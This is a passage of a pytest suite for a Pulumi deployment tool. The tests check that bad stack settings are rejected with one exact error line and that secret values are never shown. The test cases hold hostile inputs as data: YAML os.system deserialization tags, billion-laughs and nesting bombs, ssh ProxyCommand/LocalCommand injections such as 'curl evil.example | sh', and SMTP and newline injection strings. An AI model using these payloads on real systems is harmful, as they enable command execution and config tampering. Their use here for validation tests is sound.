"""Settings that are unsafe or broken end in one exact line, `<stack>: <key.path>: <problem>;
<fix>`, before any resource exists: in the program and in every `napdms-ops` command that reads a
stack file. Never a traceback, never a hang, and never a secret's value (issue 11, section 5).

One table: each row changes one thing, in the config values as the engine hands them to the
program (`config`) or in the stack file's text as the commands read it (`document`).
"""

from __future__ import annotations

import copy
import json
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pulumi
import pytest
from typer.testing import CliRunner

from components.model.plan import (
    PLAN_FILE,
    BackupPlan,
    FilesSource,
    Offsite,
    Repository,
)
from components.settings import SettingsError, load_settings, loader, read_stack
from napdms_ops import backups
from napdms_ops import declared as program_module
from napdms_ops.cli import app
from tests.program import ROOT, run_program, stack_config, without_secrets

Lines = Callable[[Path], list[str]]


@dataclass(frozen=True)
class Case:
    id: str
    lines: Lines
    """Runs the case in a scratch directory and returns the error lines."""
    line: str
    """The one line expected."""


def _settings_lines(stack: str, values: dict, secret_keys: set[str]) -> list[str]:
    with pytest.raises(SettingsError) as raised:
        load_settings(stack, values, secret_keys)
    return raised.value.lines


def config(stack: str, path: str, value, secret: tuple[str, ...] = ()) -> Lines:
    """The stack file's values with `path` set to `value`, as the engine hands them over
    (encrypted keys `secret` decrypted and marked)."""

    def lines(_: Path) -> list[str]:
        values = copy.deepcopy(stack_config(stack))
        *parents, last = path.split(".")
        node = values
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value
        return _settings_lines(stack, values, set(secret))

    return lines


def project(directory: Path, stack: str, text: str | bytes) -> Path:
    """A project directory holding the real Pulumi.yaml and `text` as Pulumi.<stack>.yaml."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "Pulumi.yaml").write_bytes((ROOT / "Pulumi.yaml").read_bytes())
    data = text.encode() if isinstance(text, str) else text
    (directory / f"Pulumi.{stack}.yaml").write_bytes(data)
    return directory


def document(stack: str, text: str | bytes) -> Lines:
    """`text` as the stack file, read the way `napdms-ops` reads it."""

    def lines(tmp_path: Path) -> list[str]:
        with pytest.raises(SettingsError) as raised:
            read_stack(stack, project(tmp_path / "project", stack, text))
        return raised.value.lines

    return lines


def stack_text(stack: str) -> str:
    return (ROOT / f"Pulumi.{stack}.yaml").read_text()


def edited(stack: str, old: str, new: str) -> str:
    """The real stack file with `old` (which must occur) replaced by `new`."""
    text = stack_text(stack)
    assert old in text, f"Pulumi.{stack}.yaml no longer holds {old!r}"
    return text.replace(old, new, 1)


REDIS = "    redis: {memory: 128m, cpus: 0.5}"
GITEA = "    gitea: {memory: 512m, cpus: 0.5}"
DOMAIN = "nap-dms-platform:domain: nap-dms.localhost"
LAUGHS = (
    'config:\n  nap-dms-platform:lol: &a ["lol", "lol", "lol", "lol", "lol", "lol"]\n'
    + "".join(
        f"  nap-dms-platform:lol{n}: &l{n} [{', '.join([f'*{prev}'] * 9)}]\n"
        for n, prev in zip(range(1, 10), ["a", *[f"l{i}" for i in range(1, 9)]], strict=True)
    )
)
PRIVATE_KEY_HINT = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHunter2SecretMaterial backup@asustor"
S3_SECRET = "hunter2-s3-secret\nsecond line"
SMTP_SECRET = "hunter2\r\nRCPT TO:<x@evil.example>"
ENCRYPTED_DOMAIN = "secret-domain.example.org"

NOT_YAML_TAG = "is not allowed; remove it and write a plain value"
ANCHOR = "is not allowed, since it can expand a small file into a huge one; write the value out"
TAG = 'use up to 128 letters, digits, "_", "." and "-", not starting with "." or "-", e.g. "16.4"'
DIGEST = (
    "use sha256: and 64 lower-case hex digits, as `docker buildx imagetools inspect "
    "<image>:<tag>` prints it"
)
REPOSITORY = (
    'use lower-case names such as "docker.io/library/postgres", without tag or digest '
    "(they are keys of their own)"
)
SFTP = (
    'use the ASUSTOR\'s backup login, e.g. "sftp:backup@asustor.example.org:/volume1/backup/napdms"'
)
OPTION = 'which ssh reads as an option; use e.g. "ssh://deploy@qnap.example.org"'
WEAK = (
    "weakens host-key checking, so a machine posing as the host gets the connection; remove it "
    "and put the host's key in ~/.ssh/known_hosts (ssh-keyscan, checked by hand)"
)
EMAIL = (
    "is not a plain e-mail address (no quotes, braces, spaces or line breaks: it is written "
    'into the Caddyfile and Alertmanager\'s config); use e.g. "ops@example.org"'
)
SYSTEM_DIR = (
    'which the system empties or owns; use a directory of its own such as "/repository" '
    '(or "/volume1/backup/napdms" on the ASUSTOR)'
)
COLLIDES = 'use a directory of its own such as "/repository"'
OFFSITE = {"endpoint": "https://s3.eu-central-1.amazonaws.com", "bucket": "napdms-offsite"}

CASES = [
    # --- values stored with `pulumi config set --secret`: refused or checked, never shown -----
    Case(
        "secret-setting-stays-out-of-plain-text",
        config("prod", "domain", ENCRYPTED_DOMAIN, secret=("domain",)),
        "prod: domain: stored encrypted, but the program writes this setting in plain text "
        "(resource names, labels, environment, generated files), where it would not stay secret; "
        "write it in Pulumi.prod.yaml without --secret",
    ),
    Case(
        "secret-nested-in-the-stack-file",
        document(
            "dev", edited("dev", "repository: /repository", "repository: {secure: v1:AAAABBBB}")
        ),
        "dev: backup: stored encrypted, but the program writes this setting in plain text "
        "(resource names, labels, environment, generated files), where it would not stay secret; "
        "write it in Pulumi.dev.yaml without --secret",
    ),
    Case(
        "secret-ssh-key-is-a-public-key",
        config("prod", "backup_ssh_key", PRIVATE_KEY_HINT, secret=("backup_ssh_key",)),
        "prod: backup_ssh_key: holds a public key, but must hold the private key, the file "
        "without .pub (the value is not shown); set it again with "
        "`pulumi config set --secret backup_ssh_key --stack prod`",
    ),
    Case(
        "secret-s3-key-with-line-break",
        config("prod", "s3_secret_access_key", S3_SECRET, secret=("s3_secret_access_key",)),
        "prod: s3_secret_access_key: holds spaces, line breaks or control characters, but must "
        "be one word (the value is not shown); set it again with "
        "`pulumi config set --secret s3_secret_access_key --stack prod`",
    ),
    Case(
        "secret-smtp-password-with-line-break",
        config("prod", "smtp_password", SMTP_SECRET, secret=("smtp_password",)),
        "prod: smtp_password: holds line breaks or control characters, but must be one line "
        "(the value is not shown); set it again with "
        "`pulumi config set --secret smtp_password --stack prod`",
    ),
    Case(
        "secret-key-in-plain-text",
        config("staging", "backup_ssh_key", PRIVATE_KEY_HINT),
        "staging: backup_ssh_key: stored in plain text but holds the private key the backup "
        "agent logs in to the ASUSTOR's sftp with; set it with "
        "`pulumi config set --secret backup_ssh_key --stack staging`",
    ),
    # --- YAML --------------------------------------------------------------------------------
    Case(
        "yaml-duplicate-key",
        document("dev", edited("dev", GITEA, "    gitea:\n      memory: 512m\n      memory: 1g")),
        "dev: services.gitea.memory: set twice (lines 19 and 20); keep one",
    ),
    Case(
        "yaml-duplicate-service",
        document("dev", edited("dev", REDIS, f"{REDIS}\n    redis: {{memory: 256m}}")),
        "dev: services.redis: set twice (lines 14 and 15); keep one",
    ),
    Case(
        "yaml-duplicate-top-level-key",
        document("dev", stack_text("dev") + "  nap-dms-platform:domain: other.localhost\n"),
        "dev: domain: set twice (lines 5 and 43); keep one",
    ),
    Case(
        "yaml-non-utf8",
        document(
            "dev", stack_text("dev").encode().replace(b"nap-dms.localhost", b"nap\xffdms.local", 1)
        ),
        "dev: Pulumi.dev.yaml:5: byte 0xff is not UTF-8; save the file as UTF-8",
    ),
    Case(
        "yaml-tab",
        document(
            "dev", edited("dev", "    local:\n      memory: 12g", "    local:\n\tmemory: 12g")
        ),
        "dev: Pulumi.dev.yaml:8: holds a tab character; indent and separate with spaces",
    ),
    Case(
        "yaml-control-character",
        document("dev", edited("dev", DOMAIN, 'nap-dms-platform:domain: "nap\x00dms.localhost"')),
        "dev: Pulumi.dev.yaml:5: character #x0000 is not allowed in YAML; remove it",
    ),
    Case(
        "yaml-top-level-list",
        document("dev", "- config\n- nap-dms-platform:environment\n"),
        "dev: Pulumi.dev.yaml: holds a list, not a mapping; start the file with config: and the "
        "settings below it, indented",
    ),
    Case(
        "yaml-config-is-a-list",
        document("dev", "config:\n  - nap-dms-platform:environment: dev\n"),
        "dev: config: a list, not a mapping; write each nap-dms-platform:<key>: <value> below "
        "config:, indented",
    ),
    Case(
        "yaml-config-is-text",
        document("dev", "config: nap-dms-platform:environment=dev\n"),
        "dev: config: a single value, not a mapping; write each nap-dms-platform:<key>: <value> "
        "below config:, indented",
    ),
    Case(
        "yaml-python-object-tag",
        document(
            "dev",
            edited("dev", DOMAIN, "nap-dms-platform:domain: !!python/object/apply:os.system [id]"),
        ),
        f"dev: domain: YAML tag !!python/object/apply:os.system {NOT_YAML_TAG}",
    ),
    Case(
        "yaml-python-name-tag-on-a-key",
        document("dev", edited("dev", GITEA, "    !!python/name:os.system gitea: {memory: 1g}")),
        f"dev: services: YAML tag !!python/name:os.system {NOT_YAML_TAG}",
    ),
    Case(
        "yaml-local-tag",
        document("dev", edited("dev", DOMAIN, "nap-dms-platform:domain: !vault nap-dms.localhost")),
        f"dev: domain: YAML tag !vault {NOT_YAML_TAG}",
    ),
    Case(
        "yaml-anchor-and-alias",
        document(
            "dev",
            edited("dev", REDIS, "    redis: &small {memory: 128m, cpus: 0.5}\n    n8n: *small"),
        ),
        f"dev: services.redis: YAML anchor or alias (&small) {ANCHOR}",
    ),
    Case(
        "yaml-billion-laughs",
        document("dev", LAUGHS),
        f"dev: lol: YAML anchor or alias (&a) {ANCHOR}",
    ),
    Case(
        "yaml-syntax",
        document("dev", edited("dev", DOMAIN, "nap-dms-platform:domain: [nap-dms.localhost")),
        "dev: Pulumi.dev.yaml:6: expected ',' or ']', but got ':'; fix the YAML syntax there",
    ),
    Case(
        "yaml-second-document",
        document("dev", stack_text("dev") + "---\nconfig: {}\n"),
        "dev: Pulumi.dev.yaml:43: a second YAML document (---); keep one document per file",
    ),
    Case(
        "yaml-nesting-bomb",
        document("dev", "config:\n  nap-dms-platform:hosts: " + "[" * 5000 + "]" * 5000 + "\n"),
        "dev: hosts" + ".0" * 30 + ": nested deeper than 32 levels; flatten it",
    ),
    Case(
        "yaml-huge-file",
        document("dev", stack_text("dev") + "#" + "x" * 300_000 + "\n"),
        "dev: Pulumi.dev.yaml: larger than 256 KiB; a stack file is a few KiB of settings",
    ),
    Case(
        "yaml-no-stack-file",
        lambda tmp_path: _missing_stack_file(tmp_path),
        "qa: Pulumi.qa.yaml: cannot read it (No such file or directory); check the stack name "
        "and the file",
    ),
    # --- images ------------------------------------------------------------------------------
    Case(
        "image-tag-with-shell",
        config("prod", "services.postgres.tag", "17.6;id"),
        f'prod: services.postgres.tag: "17.6;id" is not an image tag; {TAG}',
    ),
    Case(
        "image-tag-leading-dash",
        config("prod", "services.postgres.tag", "-17.6"),
        f'prod: services.postgres.tag: "-17.6" is not an image tag; {TAG}',
    ),
    Case(
        "image-tag-too-long",
        config("prod", "services.postgres.tag", "1" * 129),
        f'prod: services.postgres.tag: "{"1" * 72}...(cut)" is not an image tag; {TAG}',
    ),
    Case(
        "image-digest-upper-case",
        config("prod", "services.postgres.digest", "sha256:" + "AB" * 32),
        f'prod: services.postgres.digest: "sha256:{"AB" * 32}" is not an image digest; {DIGEST}',
    ),
    Case(
        "image-digest-short",
        config("prod", "services.redis.digest", "sha256:abc123"),
        f'prod: services.redis.digest: "sha256:abc123" is not an image digest; {DIGEST}',
    ),
    Case(
        "image-repository-upper-case",
        config("prod", "services.postgres.image", "docker.io/Library/Postgres"),
        'prod: services.postgres.image: "docker.io/Library/Postgres" is not an image '
        f"repository; {REPOSITORY}",
    ),
    Case(
        "image-repository-with-tag",
        config("prod", "services.postgres.image", "docker.io/library/postgres:17"),
        'prod: services.postgres.image: "docker.io/library/postgres:17" is not an image '
        f"repository; {REPOSITORY}",
    ),
    Case(
        "image-repository-bad-component",
        config("prod", "services.postgres.image", "docker.io/library/-postgres"),
        'prod: services.postgres.image: "docker.io/library/-postgres" is not an image '
        f"repository; {REPOSITORY}",
    ),
    # --- sftp, ssh and Docker endpoints --------------------------------------------------------
    Case(
        "sftp-user-starts-with-dash",
        config(
            "prod",
            "backup.repository",
            "sftp:-oProxyCommand=touch@asustor.nap-dms.example.org:/volume1/backup/napdms",
        ),
        'prod: backup.repository: the user "-oProxyCommand=touch" starts with "-", which ssh '
        f"reads as an option; {SFTP}",
    ),
    Case(
        "sftp-host-starts-with-dash",
        config("prod", "backup.repository", "sftp:backup@-oProxyCommand=id:/volume1/backup"),
        'prod: backup.repository: the host "-oProxyCommand=id" starts with "-", which ssh reads '
        f"as an option; {SFTP}",
    ),
    Case(
        "docker-host-user-starts-with-dash",
        config("prod", "hosts.qnap.docker_host", "ssh://-oProxyCommand=id@qnap.example.org"),
        'prod: hosts.qnap.docker_host: "ssh://-oProxyCommand=id@qnap.example.org": the user '
        f'"-oProxyCommand=id" starts with "-", {OPTION}',
    ),
    Case(
        "docker-host-host-starts-with-dash",
        config("prod", "hosts.asustor.docker_host", "ssh://deploy@-oProxyCommand=id"),
        'prod: hosts.asustor.docker_host: "ssh://deploy@-oProxyCommand=id": the host '
        f'"-oProxyCommand=id" starts with "-", {OPTION}',
    ),
    Case(
        "docker-host-tcp-without-tls",
        config("prod", "hosts.qnap.docker_host", "tcp://qnap.nap-dms.example.org:2375"),
        'prod: hosts.qnap.docker_host: "tcp://qnap.nap-dms.example.org:2375" reaches the Docker '
        "API over TCP without TLS, so anyone on the network who reaches the port controls the "
        'host; use e.g. "ssh://deploy@qnap.example.org" (the API over ssh)',
    ),
    Case(
        "ssh-opts-strict-host-key-checking-no",
        config("prod", "hosts.qnap.ssh_opts", ["-o", "StrictHostKeyChecking=no"]),
        f'prod: hosts.qnap.ssh_opts: "-o StrictHostKeyChecking=no" {WEAK}',
    ),
    Case(
        "ssh-opts-accept-new-joined",
        config("prod", "hosts.qnap.ssh_opts", ["-oStrictHostKeyChecking=accept-new"]),
        f'prod: hosts.qnap.ssh_opts: "-o StrictHostKeyChecking=accept-new" {WEAK}',
    ),
    Case(
        "ssh-opts-lower-case-space-separated",
        config("staging", "hosts.asustor.ssh_opts", ["-o", "stricthostkeychecking off"]),
        f'staging: hosts.asustor.ssh_opts: "-o stricthostkeychecking off" {WEAK}',
    ),
    Case(
        "ssh-opts-known-hosts-dev-null",
        config("prod", "hosts.qnap.ssh_opts", ["-o", "UserKnownHostsFile = /dev/null"]),
        f'prod: hosts.qnap.ssh_opts: "-o UserKnownHostsFile = /dev/null" {WEAK}',
    ),
    Case(
        "ssh-opts-proxy-command",
        config(
            "prod",
            "hosts.qnap.ssh_opts",
            ["-o", "ServerAliveInterval=15", "-qo", "ProxyCommand=nc %h %p"],
        ),
        'prod: hosts.qnap.ssh_opts: "-o ProxyCommand=nc %h %p" runs a command on this machine '
        "for every connection; remove it (for a jump host use -J <host>)",
    ),
    Case(
        "ssh-opts-local-command",
        config("prod", "hosts.qnap.ssh_opts", ["-o", "LocalCommand=curl evil.example | sh"]),
        'prod: hosts.qnap.ssh_opts: "-o LocalCommand=curl evil.example | sh" runs a command on '
        "this machine after connecting; remove it",
    ),
    Case(
        "ssh-opts-permit-local-command",
        config("prod", "hosts.qnap.ssh_opts", ["-o", "PERMITLOCALCOMMAND yes"]),
        'prod: hosts.qnap.ssh_opts: "-o PERMITLOCALCOMMAND yes" lets LocalCommand run a command '
        "on this machine; remove it",
    ),
    Case(
        "ssh-opts-other-config-file",
        config("prod", "hosts.qnap.ssh_opts", ["-F", "/tmp/ssh_config"]),
        "prod: hosts.qnap.ssh_opts: -F reads another ssh config file, which can switch host-key "
        "checking off or run commands; remove it and list the options here",
    ),
    Case(
        "ssh-opts-without-dash-o",
        config("prod", "hosts.qnap.ssh_opts", ["ServerAliveInterval=15"]),
        'prod: hosts.qnap.ssh_opts: "ServerAliveInterval=15" is not an ssh option; write '
        "options as -o Key=value (two entries: -o, Key=value)",
    ),
    # --- offsite endpoint, e-mail addresses, names that reach generated files ----------------
    Case(
        "offsite-http-in-prod",
        config("prod", "backup.offsite", {**OFFSITE, "endpoint": "http://s3.example.org"}),
        'prod: backup.offsite.endpoint: "http://s3.example.org" is plain HTTP, so the backups\' '
        "requests and the S3 keys' signatures cross the network unencrypted; use https:// "
        "(http:// is for dev only)",
    ),
    Case(
        "offsite-credentials-in-url",
        config("staging", "backup.offsite", {**OFFSITE, "endpoint": "https://AKIA:k3y@s3.io"}),
        "staging: backup.offsite.endpoint: holds credentials (user:key@host), which would be "
        "written to the plan in plain text; remove them and set the encrypted keys "
        "s3_access_key_id and s3_secret_access_key",
    ),
    Case(
        "email-with-quote",
        config("prod", "tls.acme_email", 'ops"@nap-dms.example.org'),
        f'prod: tls.acme_email: "ops\\"@nap-dms.example.org" {EMAIL}',
    ),
    Case(
        "email-with-braces",
        config("prod", "alerting.smtp_to", ["ops@nap-dms.example.org", "o}{s@nap-dms.example.org"]),
        f'prod: alerting.smtp_to.1: "o}}{{s@nap-dms.example.org" {EMAIL}',
    ),
    Case(
        "email-with-line-break",
        config("prod", "alerting.smtp_from", "alerts@nap-dms.example.org\n}\nimport evil"),
        f'prod: alerting.smtp_from: "alerts@nap-dms.example.org\\n}}\\nimport evil" {EMAIL}',
    ),
    Case(
        "domain-with-line-break",
        config("prod", "domain", "nap-dms.example.org\n"),
        'prod: domain: "nap-dms.example.org\\n" is not a DNS domain; use e.g. '
        '"nap-dms.example.org"',
    ),
    Case(
        "smtp-host-with-line-break",
        config("prod", "alerting.smtp_host", "smtp.example.org\nrequire_tls: false"),
        'prod: alerting.smtp_host: "smtp.example.org\\nrequire_tls: false" is not a host name or '
        'IP address; use e.g. "smtp.example.org"',
    ),
    Case(
        "line-break-cannot-forge-a-second-line",
        config("prod", "services.redis.host", "nas3\nprod: domain: fine"),
        'prod: services.redis.host: "nas3\\nprod: domain: fine" is not a host of this stack; '
        "use one of: qnap, asustor",
    ),
    # --- repository paths ----------------------------------------------------------------------
    Case(
        "repository-root",
        config("dev", "backup.repository", "/"),
        f'dev: backup.repository: "/" is the whole filesystem, {SYSTEM_DIR}',
    ),
    Case(
        "repository-tmp",
        config("dev", "backup.repository", "/tmp"),
        f'dev: backup.repository: "/tmp" lies in /tmp, {SYSTEM_DIR}',
    ),
    Case(
        "repository-run-secrets",
        config("dev", "backup.repository", "/run/secrets"),
        f'dev: backup.repository: "/run/secrets" lies in /run, {SYSTEM_DIR}',
    ),
    Case(
        "repository-sftp-root",
        config("prod", "backup.repository", "sftp:backup@asustor.nap-dms.example.org:/"),
        f'prod: backup.repository: "/" is the whole filesystem, {SYSTEM_DIR}',
    ),
    Case(
        "repository-collides-with-state-volume",
        config("dev", "backup.repository", "/state"),
        'dev: backup.repository: "/state" collides with the agent\'s mount of its state volume '
        f"at /state; {COLLIDES}",
    ),
    Case(
        "repository-inside-the-sources",
        config("dev", "backup.repository", "/source/gitea"),
        'dev: backup.repository: "/source/gitea" collides with the agent\'s mount of the volumes '
        f"it backs up at /source; {COLLIDES}",
    ),
    Case(
        "repository-inside-the-wal-spool",
        config("dev", "backup.repository", "/wal/postgres"),
        'dev: backup.repository: "/wal/postgres" collides with the agent\'s mount of its WAL '
        f"spool at /wal; {COLLIDES}",
    ),
    Case(
        "repository-path-tricks",
        config("dev", "backup.repository", "/repository/../backups"),
        'dev: backup.repository: "/repository/../backups" is not a plain path; write it as '
        '"/backups"',
    ),
    # --- absurd sizes and durations, counters, booleans -------------------------------------------
    Case(
        "retry-delay-1e12",
        document(
            "dev",
            edited(
                "dev", "timezone: Europe/Berlin", "timezone: Europe/Berlin\n    retry_delay_s: 1e12"
            ),
        ),
        "dev: backup.retry_delay_s: 1000000000000.0 is too large; use 21600 or less",
    ),
    Case(
        "memory-9000000000t",
        config("dev", "services.gitea.memory", "9000000000t"),
        'dev: services.gitea.memory: "9000000000t" is more memory than any host has; use at '
        'most "1t", e.g. "512m" or "2g"',
    ),
    Case(
        "memory-beyond-float",
        config("dev", "hosts.local.memory", "1" + "0" * 400 + "g"),
        f'dev: hosts.local.memory: "{"1" + "0" * 71}...(cut)" is more memory than any host has; '
        'use at most "1t", e.g. "512m" or "2g"',
    ),
    Case(
        "retention-absurd",
        config("dev", "backup.retention", {"daily": 1_000_000}),
        "dev: backup.retention.daily: 1000000 is too large; use 3660 or less",
    ),
    Case(
        "rotation-negative",
        config("dev", "secrets", {"rotation": {"redis-password": -1}}),
        "dev: secrets.rotation.redis-password: -1 is too small; use 0 or more",
    ),
    Case(
        "rotation-not-a-number",
        config("dev", "secrets", {"rotation": {"redis-password": "1"}}),
        'dev: secrets.rotation.redis-password: "1" is not a whole number; use e.g. 2',
    ),
    Case(
        "enabled-string-no",
        config("prod", "services.n8n.enabled", "no"),
        'prod: services.n8n.enabled: "no" is not true or false; write true or false, '
        "without quotes",
    ),
    Case(
        "enabled-yaml-1.1-no",
        document("dev", edited("dev", GITEA, "    gitea: {memory: 512m, cpus: 0.5, enabled: no}")),
        'dev: services.gitea.enabled: "no" is not true or false; write true or false, '
        "without quotes",
    ),
]


def _missing_stack_file(tmp_path: Path) -> list[str]:
    with pytest.raises(SettingsError) as raised:
        read_stack("qa", project(tmp_path / "project", "dev", stack_text("dev")))
    return raised.value.lines


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_a_bad_setting_ends_in_one_exact_line(case, tmp_path):
    started = time.monotonic()
    assert case.lines(tmp_path) == [case.line]
    assert time.monotonic() - started < 5, f"{case.id} took {time.monotonic() - started:.1f} s"


def test_the_table_covers_the_issue():
    assert len(CASES) >= 40
    assert len({case.id for case in CASES}) == len(CASES)


def test_every_line_names_stack_key_problem_and_fix():
    for case in CASES:
        stack, key, rest = case.line.split(": ", 2)
        assert stack in ("dev", "staging", "prod", "qa") and key and "; " in rest, case.id
        assert "\n" not in case.line and "Traceback" not in case.line, case.id


@pytest.mark.parametrize(
    "secret", [ENCRYPTED_DOMAIN, "hunter2", "Hunter2SecretMaterial", "RCPT TO", "second line"]
)
def test_no_line_shows_an_encrypted_value(secret, tmp_path):
    shown = [case.lines(tmp_path / case.id)[0] for case in CASES if case.id.startswith("secret-")]
    assert not [line for line in shown if secret in line]


def test_the_real_stack_files_pass():
    for stack in ("dev", "staging", "prod"):
        assert read_stack(stack).name == stack


def test_the_billion_laughs_fail_fast_in_bounded_memory(tmp_path):
    directory = project(tmp_path, "dev", LAUGHS)
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(SettingsError):
        read_stack("dev", directory)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 1, f"took {elapsed:.2f} s"
    assert peak < 5 * 1024 * 1024, f"peaked at {peak} bytes"


# --- the program: the same lines, before any resource is registered ---------------------------

PROGRAM_CASES = {
    case.id: case
    for case in CASES
    if case.id
    in (
        "secret-setting-stays-out-of-plain-text",
        "secret-ssh-key-is-a-public-key",
        "docker-host-tcp-without-tls",
        "enabled-string-no",
        "offsite-http-in-prod",
        "email-with-line-break",
    )
}
PROGRAM_VALUES = {
    "secret-setting-stays-out-of-plain-text": ({"domain": ENCRYPTED_DOMAIN}, ("domain",)),
    "secret-ssh-key-is-a-public-key": ({"backup_ssh_key": PRIVATE_KEY_HINT}, ("backup_ssh_key",)),
    "docker-host-tcp-without-tls": (
        {"hosts.qnap.docker_host": "tcp://qnap.nap-dms.example.org:2375"},
        (),
    ),
    "enabled-string-no": ({"services.n8n.enabled": "no"}, ()),
    "offsite-http-in-prod": (
        {"backup.offsite": {**OFFSITE, "endpoint": "http://s3.example.org"}},
        (),
    ),
    "email-with-line-break": (
        {"alerting.smtp_from": "alerts@nap-dms.example.org\n}\nimport evil"},
        (),
    ),
}


@pytest.mark.parametrize("case_id", sorted(PROGRAM_CASES))
def test_the_program_stops_with_the_same_line_before_any_resource(case_id, monkeypatch):
    changes, secret_keys = PROGRAM_VALUES[case_id]
    values = copy.deepcopy(stack_config("prod"))
    for path, value in changes.items():
        *parents, last = path.split(".")
        node = values
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value
    registered: list[str] = []
    original = program_module._Monitor.RegisterResource

    def record(self, request):
        registered.append(request.type)
        return original(self, request)

    monkeypatch.setattr(program_module._Monitor, "RegisterResource", record)
    with pytest.raises(pulumi.RunError) as raised:
        run_program("prod", values, secret_keys=secret_keys)
    assert str(raised.value) == PROGRAM_CASES[case_id].line
    assert [t for t in registered if t != "pulumi:pulumi:Stack"] == []


def test_encrypted_values_stay_secret_wherever_they_flow():
    """The operator's encrypted keys reach the secret files of the services that read them (the
    backup agent, the Alertmanagers) only: never a plain input (env, labels, uploads), a plain
    output, or a generated file such as the plan or a plain alertmanager.yml."""
    values = {
        **stack_config("staging"),
        "backup": {**stack_config("staging")["backup"], "offsite": OFFSITE},
        "backup_ssh_key": (
            "-----BEGIN OPENSSH PRIVATE KEY-----\nSSHKEYMATERIAL42\n"
            "-----END OPENSSH PRIVATE KEY-----"
        ),
        "s3_access_key_id": "AKIAACCESSKEY42",
        "s3_secret_access_key": "S3SECRETMATERIAL42",
        "smtp_password": "SMTPPASSWORD42",
        "alert_webhook_url": "https://chat.example.org/hooks/1/WEBHOOKTOKEN42",
    }
    secret_keys = (
        "backup_ssh_key",
        "s3_access_key_id",
        "s3_secret_access_key",
        "smtp_password",
        "alert_webhook_url",
    )
    declared = run_program("staging", values, secret_keys=secret_keys)
    plain = json.dumps(
        [without_secrets(r.inputs) for r in declared.resources]
        + [without_secrets(declared.outputs)],
        default=str,
    )
    everything = json.dumps([r.inputs for r in declared.resources], default=str)
    values = (
        "SSHKEYMATERIAL42",
        "AKIAACCESSKEY42",
        "S3SECRETMATERIAL42",
        "SMTPPASSWORD42",
        "WEBHOOKTOKEN42",
    )
    for value in values:
        assert value not in plain, f"an encrypted value flows into plain text: {value}"
    for value in values:
        assert value in everything, f"{value} never reached its service (the test proves nothing)"


# --- napdms-ops: the same lines, and one line for every bad argument or unreachable service ----


def _invoke(*args: str, env: dict[str, str] | None = None):
    result = CliRunner().invoke(app, list(args), env=env)
    assert not isinstance(result.exception, Exception) or isinstance(
        result.exception, SystemExit
    ), f"napdms-ops {' '.join(args)} raised {result.exception!r}"
    assert "Traceback" not in result.output + result.stderr
    return result


STACK_FILE_COMMANDS = [
    ("images", "--stack", "dev"),
    ("policy-config", "--stack", "dev"),
    ("backup", "run", "--stack", "dev"),
    ("backup", "list", "--stack", "dev"),
    ("backup", "verify", "--stack", "dev"),
    ("backup", "prune", "--stack", "dev"),
    ("backup", "init", "--stack", "dev"),
    ("restore", "--stack", "dev"),
    ("drill", "--stack", "dev"),
]
BAD_FILES = {
    case.id: case
    for case in CASES
    if case.id in ("yaml-duplicate-key", "yaml-billion-laughs", "enabled-yaml-1.1-no")
}


@pytest.mark.parametrize("case_id", sorted(BAD_FILES))
@pytest.mark.parametrize("command", STACK_FILE_COMMANDS, ids=" ".join)
def test_every_command_reading_a_stack_file_prints_its_line(
    command, case_id, tmp_path, monkeypatch
):
    case = BAD_FILES[case_id]
    # The case's own run writes its stack file into tmp_path/project; the commands read it there.
    case.lines(tmp_path)
    monkeypatch.setattr(loader, "PROJECT_DIR", tmp_path / "project")
    result = _invoke(*command, env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"})
    assert (result.exit_code, result.stderr) == (2, case.line + "\n")


CLI_CASES = [
    (
        ("schema", "--output", "{tmp}/missing/schema.json"),
        2,
        "napdms-ops schema: --output {tmp}/missing/schema.json: cannot write it (No such file or "
        "directory); choose a file in a writable directory",
    ),
    (
        ("schema", "-o", "{tmp}"),
        2,
        "napdms-ops schema: --output {tmp}: cannot write it (Is a directory); choose a file in a "
        "writable directory",
    ),
    (
        ("drill", "--stack", "prod", "--data-bytes", "0"),
        2,
        "napdms-ops drill: --data-bytes 0: not a positive number of bytes; give the data size to "
        "extrapolate to (e.g. 500000000000), or omit it for the run's",
    ),
    (
        ("drill", "--data-bytes", "-500"),
        2,
        "napdms-ops drill: --data-bytes -500: not a positive number of bytes; give the data size "
        "to extrapolate to (e.g. 500000000000), or omit it for the run's",
    ),
    (
        ("restore", "--stack", "dev", "--label", "../etc"),
        2,
        'napdms-ops restore: --label "../etc": not usable in a volume name; use up to 40 '
        'lower-case letters, digits, ".", "_" and "-", e.g. "before-upgrade"',
    ),
    (
        ("restore", "--stack", "dev", "--to", "2026-11-20T14:05"),
        2,
        "napdms-ops restore --to: name the PostgreSQL service to recover with --service, "
        "e.g. --service postgres",
    ),
    (
        (
            "restore",
            "--stack",
            "dev",
            "--to",
            "2026-11-20T14:05",
            "--service",
            "postgres",
            "--service",
            "redis",
        ),
        2,
        "napdms-ops restore --to: recovers one service; give one --service",
    ),
    (
        (
            "restore",
            "--stack",
            "dev",
            "--to",
            "2026-11-20T14:05",
            "--service",
            "postgres",
            "--force",
            "--target",
            "dev",
        ),
        2,
        "napdms-ops restore --to: writes a fresh volume, so --force does not apply; drop it",
    ),
    (
        (
            "restore",
            "--stack",
            "dev",
            "--to",
            "2026-11-20T14:05",
            "--service",
            "postgres",
            "--snapshot",
            "abc123",
        ),
        2,
        "napdms-ops restore --to: the moment chooses the base backup, so --snapshot does not "
        "apply; drop it",
    ),
    (
        (
            "restore",
            "--stack",
            "dev",
            "--to",
            "2026-11-20T14:05",
            "--service",
            "postgres",
            "--label",
            "../etc",
        ),
        2,
        'napdms-ops restore --to: --label "../etc": not usable in a volume name; use up to 40 '
        'lower-case letters, digits, ".", "_" and "-", e.g. "before-upgrade"',
    ),
    (
        ("backup", "run", "--stack", "qa"),
        2,
        "napdms-ops: unknown stack 'qa'; use one of: dev, staging, prod",
    ),
    (
        ("images", "--stack", "qa"),
        2,
        "napdms-ops images: unknown stack 'qa'; use one of: dev, staging, prod",
    ),
]


@pytest.mark.parametrize(
    "args,code,line",
    CLI_CASES,
